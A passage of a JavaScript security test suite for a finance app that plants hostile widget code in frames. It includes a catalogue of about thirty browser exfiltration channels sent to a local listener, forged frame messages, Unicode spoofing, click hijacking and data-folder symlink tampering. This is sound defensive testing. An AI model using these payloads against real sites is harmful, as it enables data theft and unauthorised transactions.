      for (let n = 1; n < 40; n++) call(9000 + n, "record_transaction", { ...args, idempotency_key: "asked-key-many-" + n });
      let rounds = 0; const timer = setInterval(() => { if (++rounds > 60) clearInterval(timer);
        call(9100 + rounds, "record_transaction", { ...args, idempotency_key: "asked-again-" + rounds }); }, 120);`);
    plant(stack, target.release_id, code, "list_positions record_transaction");
    const page = await opened("investor-a");
    await scroll(page);
    const dialog = page.getByRole("dialog");
    await dialog.first().waitFor({ timeout: 8000 });
    expect(await dialog.count()).toBe(1);
    const shown = await dialog.innerText();
    expect(shown).toMatch(/withdrawal/);
    await sleep(1500);
    expect(await dialog.innerText(), "the text of the question does not change").toBe(shown);
    await page.getByRole("button", { name: "Allow once" }).click();
    await until(
      "the write",
      async () => (await operations(a)).some((row) => ["asked", "changed"].includes(row.note)),
      5000,
    );
    let asked = 1;
    for (let round = 0; round < 12; round++) {
      const refuse = page.getByRole("button", { name: "Refuse" });
      if (
        !(await refuse.waitFor({ timeout: 1200 }).then(
          () => true,
          () => false,
        ))
      )
        break;
      asked += 1;
      await refuse.click({ timeout: 1000 }).catch(() => null);
    }
    const rows = (await operations(a)).filter((row) => ["asked", "changed"].includes(row.note));
    await page.context().close();
    expect(
      rows.map((row) => [row.amount, row.note]),
      "exactly what was allowed",
    ).toEqual([["1", "asked"]]);
    expect(asked, "questions after refusals, until the page stops the widget").toBeLessThanOrEqual(6);
  });

  test("35 invisible and turned characters in the question are shown as what they are", async () => {
    const note = "gift \u202e000,1 \u202c\u200b\u2066x\u2069 \u00ad\ufeff\u0007end";
    plant(
      stack,
      target.release_id,
      hostile(`call(9000, "record_transaction", ${withdrawal("unicode-key-1", "9", note)});`),
      "list_positions record_transaction",
    );
    const page = await opened("investor-a");
    await scroll(page);
    const dialog = page.getByRole("dialog");
    await dialog.waitFor({ timeout: 8000 });
    const shown = await dialog.innerText();
    await page.context().close();
    expect(shown).toContain("withdrawal");
    expect(shown, "direction overrides and invisible characters").not.toMatch(
      /[\u202a-\u202e\u2066-\u2069\u200b-\u200f\ufeff\u00ad\u0007]/,
    );
  });

  test("36 a question that appears under a finger that is already pressing", async () => {
    const ask = (key, note) => `call(9000, "record_transaction", ${withdrawal(key, "8", note)});`;
    plant(stack, target.release_id, hostile(ask("probe-key-1", "probe")), "list_positions record_transaction");
    const first = await opened("investor-a");
    await scroll(first);
    const allow = first.getByRole("button", { name: "Allow once" });
    await allow.waitFor({ timeout: 8000 });
    const box = await allow.boundingBox();
    await first.context().close();
    plant(
      stack,
      target.release_id,
      hostile(`await new Promise((r) => setTimeout(r, 1200)); ${ask("surprise-key-1", "surprise")}`),
      "list_positions record_transaction",
    );
    const page = await opened("investor-a");
    await scroll(page);
    let appeared = 0;
    for (let press = 0; press < 80 && !(appeared && Date.now() - appeared > 250); press++) {
      appeared ||= (await page.getByRole("dialog").count()) ? Date.now() : 0;
      await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
      await sleep(40);
    }
    await sleep(700);
    const rows = await operations(a, "surprise");
    await page.context().close();
    expect(appeared, "the question did appear").toBeGreaterThan(0);
    expect(rows.length, "recorded by clicks that began before the question could be read").toBe(0);
  });

  test("37 forged messages to the page and to a sibling frame", async () => {
    const sibling = await release(a, reviewer, await build(a, model, READER));
    const code = hostile(`
      const { port1, port2 } = new MessageChannel(); const heard = []; port1.onmessage = (e) => heard.push(e.data);
      let sent = 0;
      for (let n = 0; n < parent.frames.length; n++) for (const target of [parent.frames[n]]) { if (target === window) continue;
        for (let k = 0; k < 8; k++) { const pair = new MessageChannel(); pair.port1.onmessage = (e) => heard.push(e.data); pair.port1.start();
          for (const text of [{ atelier: "connect", versions: [1] }]) { target.postMessage(text, "*", [pair.port2]); sent++; break; }
          await new Promise((r) => setTimeout(r, 60)); } }
      const up = new MessageChannel(); up.port1.onmessage = (e) => heard.push({ page: e.data });
      parent.postMessage({ atelier: "connect", versions: [1] }, "*", [up.port2]);
      parent.postMessage({ jsonrpc: "2.0", id: 9001, method: "tools/call", params: { name: "list_portfolios", arguments: {} } }, "*");
      parent.postMessage({ source: "atelier-preview", type: "resize", height: 99999 }, "*");
      note({ sent, heard });
      for (const run of [() => { top.location = "http://127.0.0.1:9/"; }, () => { [0, 1].map((n) => parent.frames[n]).find((f) => f !== window).location = "about:blank"; }, () => parent.document.title, () => localStorage.x,
        () => document.cookie, () => [0, 1].map((n) => parent.frames[n]).find((f) => f !== window).document.title]) { try { note("got " + run()); } catch (e) { note(e.name); } }
      await new Promise((r) => setTimeout(r, 800)); note({ sent, heard });`);
    plant(stack, target.release_id, code, "list_positions");
    const page = await opened("investor-a");
    await scroll(page);
    await sleep(500);
    await page.locator("iframe").last().scrollIntoViewIfNeeded();
    const seen = await dump(page, (text) => text.log.some((row) => row.sent !== undefined));
    const last = seen.log.find((row) => row.sent !== undefined);
    expect(last.sent, "the sibling was reached").toBeGreaterThan(0);
    expect(page.url()).toContain("/app/");
    const honest = frameOf(
      page,
      sibling.bundle_sha256 ??
        (await a.get("/app/customizations")).body.customizations.find((row) => row.release_id === sibling.release_id)
          .bundle_sha256,
    );
    const text = await honest.evaluate(() => document.body.innerText);
    await page.context().close();
    await a.post(`/releases/${sibling.release_id}/rollback`, {});
    expect(last.heard, "what a sibling or the page said to a forged port").toEqual([]);
    expect(text, "the sibling shows the real figures").toMatch(/rows: [1-9]/);
    expect(
      seen.log.filter((row) => typeof row === "string" && row.startsWith("got ") && !/undefined$|http|about/.test(row)),
    ).toEqual([]);
  });

  // One way still opens a connection without a request: docs/isolation.md, "Frames". When it is closed, this must say so.
  test.fails("38 thirty ways to send a figure out of the frame", async () => {
    // A listener each for the control and the attack: some ways send their bytes only when their page is closed.
    const hear = async (hits) => {
      const server = createServer((socket) => {
        let first = "a connection without a request";
        socket.on("error", () => null);
        socket.once("data", (part) => (first = part.toString("latin1").split("\r\n")[0]));
        setTimeout(() => hits.push(first), 1500);
      });
      await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
      return server;
    };
    const [control, hits] = [[], []];
    const [listener, trap] = [await hear(control), await hear(hits)];
    for (const [server, list] of [
      [listener, control],
      [trap, hits],
    ]) {
      server.udp = createSocket("udp4").on("message", () => list.push("udp"));
      await new Promise((resolve) => server.udp.bind(0, "127.0.0.1", resolve));
    }
    const ways = (server) => `
      const el = (tag, set) => { const e = document.createElement(tag); Object.assign(e, set); document.body.append(e); return e; };
      const css = (text) => el("style", { textContent: text }); const u = (n) => "http://127.0.0.1:${server.address().port}/" + n;
      const svg = (tag, name, value) => { const s = document.createElementNS("http://www.w3.org/2000/svg", "svg");
        const e = document.createElementNS("http://www.w3.org/2000/svg", tag); e.setAttribute(name, value); s.append(e); document.body.append(s); };
      const ways = [
        () => fetch(u("fetch")), () => { const x = new XMLHttpRequest(); x.open("GET", u("xhr")); x.send(); }, () => navigator.sendBeacon(u("beacon")),
        () => new WebSocket(u("ws").replace("http", "ws")), () => new EventSource(u("sse")), () => fetchLater(u("later"), { activateAfter: 0 }),
        () => { new Image().src = u("image"); }, () => el("img", { srcset: u("srcset") + " 1x" }), () => el("video", { poster: u("poster") }), () => el("audio", { src: u("audio") }),
        () => el("link", { rel: "stylesheet", href: u("sheet") }), () => el("link", { rel: "prefetch", href: u("prefetch") }), () => el("link", { rel: "preconnect", href: u("") }),
        () => el("link", { rel: "preload", as: "image", href: u("preload") }), () => el("link", { rel: "modulepreload", href: u("module") }),
        () => el("link", { rel: "icon", href: u("icon") }), () => el("link", { rel: "prerender", href: u("prerender") }), () => el("link", { rel: "manifest", href: u("manifest") }),
        () => css("body{background:url(" + u("css") + ")}"), () => css("@import '" + u("import") + "'"), () => css("@font-face{font-family:z;src:url(" + u("font") + ")} body{font-family:z}"),
        () => css("#dump{cursor:url(" + u("cursor") + "),auto;content:image-set('" + u("set") + "' 1x)}"), () => svg("image", "href", u("svg")), () => svg("use", "href", u("use") + "#x"),
        () => el("iframe", { src: u("iframe") }), () => el("object", { data: u("object") }), () => el("embed", { src: u("embed") }),
        () => { const f = el("form", { action: u("form"), method: "post" }); f.submit(); }, () => window.open(u("open")),
        () => { const l = el("a", { href: u("link"), ping: u("ping"), target: "_blank" }); l.click(); }, () => import(u("dynamic")),
        () => new Worker(u("worker")), () => { const m = el("meta", { httpEquiv: "refresh", content: "0;url=" + u("meta") }); document.head.append(m); },
        () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${server.udp.address().port}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); },
      ];
      for (const way of ways) { try { await Promise.race([way(), new Promise((r) => setTimeout(r, 30))]); } catch { /* refused */ } }
      await new Promise((r) => setTimeout(r, 700));
      try { location.href = u("navigation"); } catch { /* refused */ }`;
    const bare = createHttp((request, response) => {
      response.setHeader("Content-Type", "text/html");
      response.end("<pre id=dump></pre>");
    });
    await new Promise((resolve) => bare.listen(0, "127.0.0.1", resolve));
    const context = await browser.newContext();
    const open = await context.newPage();
    await open.goto(`http://127.0.0.1:${bare.address().port}/`);
    await open.evaluate((text) => void new Function(`(async () => {${text}})()`)(), ways(listener)).catch(() => null);
    await sleep(3000);
    await context.close();
    await sleep(1800);
    const named = new Set(
      control.filter((row) => row.startsWith("GET") || row.startsWith("POST")).map((row) => row.split(" ")[1].slice(1)),
    );
    expect(named.size, `ways seen from a page without guard: ${[...named]}`).toBeGreaterThanOrEqual(12);
    plant(
      stack,
      target.release_id,
      hostile(`note("begun"); await new Promise((r) => setTimeout(r, 300)); ${ways(trap)}`),
      "list_positions",
    );
    const page = await opened("investor-a");
    await scroll(page);
    await dump(page, (text) => text.log.includes("begun"));
    await sleep(5500);
    await page.context().close();
    await sleep(1800);
    const leaked = [...hits];
    for (const server of [listener, trap, bare]) server.close();
    for (const server of [listener, trap]) server.udp.close();
    expect(leaked).toEqual([]);
  });

  test("39 sizes, floods and styles of a frame leave the page in its user's hands", async () => {
    const code = hostile(`
      const size = (height, seq) => own.call(port, { jsonrpc: "2.0", method: "ui/notifications/size-changed", params: { height, width: 9999, seq } });
      for (const [n, h] of [1e9, -5, NaN, Infinity, "5000px; position: fixed", null, 1e308].entries()) size(h, n);
      const s = document.createElement("style"); s.textContent = "} html, iframe, :root { display: none !important; position: fixed; inset: 0 }"; document.head.append(s);
      for (let n = 0; n < 3000; n++) { size(100 + (n % 900), 100 + n); own.call(port, { jsonrpc: "2.0", id: n, method: "atelier/confirm", params: { text: "x" } }); }
      call(9000, "list_positions", {}); note("done");`);
    plant(stack, target.release_id, code, "list_positions");
    const page = await opened("investor-a");
    await scroll(page);
    await sleep(3500);
    const box = await page
      .locator("iframe")
      .first()
      .boundingBox({ timeout: 1500 })
      .catch(() => null);
    expect(box?.height ?? 0, "height of the frame").toBeLessThanOrEqual(5000);
    expect(box?.width ?? 0, "width of the frame").toBeLessThanOrEqual(1280);
    const start = Date.now();
    await page.getByRole("link", { name: "Transactions" }).first().click({ timeout: 4000 });
    await page.getByText("LLY").first().waitFor({ timeout: 6000 });
    expect(Date.now() - start).toBeLessThan(6000);
    const place = await page
      .locator("iframe")
      .first()
      .evaluate((frame) => getComputedStyle(frame).position, null, { timeout: 1500 })
      .catch(() => "gone");
    expect(["static", "relative", "gone"]).toContain(place);
    await page.context().close();
  });
});

describe("H14: damaged and planted files", () => {
  const made = [];
  const fresh = async (options) => {
    const one = new Stack(options);
    made.push(one);
    await one.start();
    return one;
  };
  afterAll(async () => {
    for (const one of made) await one.stop();
  });
  const halt = async (one) => {
    one.process.kill("SIGTERM");
    await until("the end", () => one.process.exitCode !== null || one.process.signalCode !== null);
  };
  const begin = (one) =>
    Promise.race([
      one.start().then(
        () => "ready",
        (error) => String(error),
      ),
      sleep(8000).then(() => "not ready"),
    ]);

  test("40 databases of another installation, cut WAL, links, loose and foreign files in the data folder", async () => {
    const [one, two] = [await fresh(), await fresh()];
    const member = await signedIn(one, "investor-a");
    expect((await record(member, "kept-key-0001", { kind: "deposit", amount: "77", note: "kept" })).status).toBe(200);
    const [mine, foreign] = [member.token, (await signedIn(two, "investor-a")).token];
    await one.kill();
    await halt(two);
    const problems = [];
    const check = (ok, text) => ok || problems.push(text);
    for (const name of ["atelier.db-wal", "core.db-wal"]) {
      const path = join(one.data, name);
      if (existsSync(path)) truncateSync(path, Math.floor(statSync(path).size / 5));
    }
    const cut = await begin(one);
    if (cut === "ready") {
      const me = await exchange(one.port, "GET", "/api/v1/me", { Authorization: `Bearer ${foreign}` });
      check(me.status === 401, `a token of another installation: ${me.status}`);
      const ready = await exchange(one.port, "GET", "/readyz");
      const login = await send({
        port: one.port,
        method: "POST",
        path: "/api/v1/login",
        headers: JSON_TYPE,
        body: JSON.stringify({ name: "investor-a", password: one.password("investor-a") }),
      });
      check(
        login.status === 200 || ready.status === 503,
        `a cut WAL: ready says ${ready.status}, nobody can sign in: ${login.status}`,
      );
      await halt(one);
    } else if (one.process.exitCode === null) await one.kill();
    const elsewhere = mkdtempSync(join(tmpdir(), "atelier-elsewhere-"));
    writeFileSync(join(elsewhere, "canary"), "untouched");
    const third = await fresh();
    await halt(third);
    for (const [name, ending] of [
      ["operator.token", ""],
      ["core.secret", ""],
    ]) {
      const path = join(third.data, name);
      renameSync(path, join(elsewhere, name));
      chmodSync(join(elsewhere, name), 0o666);
      symlinkSync(join(elsewhere, name), path);
      const state = await begin(third);
      const loose = (statSync(join(elsewhere, name)).mode & 0o077) !== 0;
      check(!(state === "ready" && loose), `${name} behind a link, writable for everybody${ending}: ${state}`);
      if (third.process.exitCode === null && third.process.signalCode === null) await halt(third);
      rmSync(path);
      renameSync(join(elsewhere, name), path);
      chmodSync(path, 0o600);
    }
    if (process.getuid() === 0) {
      chownSync(join(third.data, "operator.token"), 65534, 65534);
      const state = await begin(third);
      const owner = statSync(join(third.data, "operator.token")).uid;
      check(!(state === "ready" && owner === 65534), `operator.token owned by nobody: ${state}`);
      if (third.process.exitCode === null && third.process.signalCode === null) await halt(third);
      chownSync(join(third.data, "operator.token"), 0, 0);
    }
    for (const folder of ["scratch", "sandboxes"]) {
      rmSync(join(third.data, folder), { recursive: true, force: true });
      symlinkSync(elsewhere, join(third.data, folder));
    }
    await begin(third);
    check(existsSync(join(elsewhere, "canary")), "emptying scratch followed a link and deleted files elsewhere");
    if (third.process.exitCode === null && third.process.signalCode === null) await halt(third);
    for (const folder of ["scratch", "sandboxes"]) rmSync(join(third.data, folder), { recursive: true, force: true });
    for (const ending of ["", "-wal", "-shm"]) {
      rmSync(join(third.data, `atelier.db${ending}`), { force: true });
      if (existsSync(join(two.data, `atelier.db${ending}`)))
        copyFileSync(join(two.data, `atelier.db${ending}`), join(third.data, `atelier.db${ending}`));
    }
    if ((await begin(third)) === "ready") {
      const me = await exchange(third.port, "GET", "/api/v1/me", { Authorization: `Bearer ${mine}` });
      check(me.status === 401, "a token of a third installation is accepted");
      const modes = readdirSync(third.data)
        .filter((name) => name.startsWith("atelier.db"))
        .map((name) => statSync(join(third.data, name)).mode & 0o077);
      check(
        modes.every((mode) => mode === 0),
        `modes after the swap: ${modes}`,
      );
      await halt(third);
    }
    rmSync(elsewhere, { recursive: true, force: true });
    expect(problems).toEqual([]);
  }, 120_000);
});
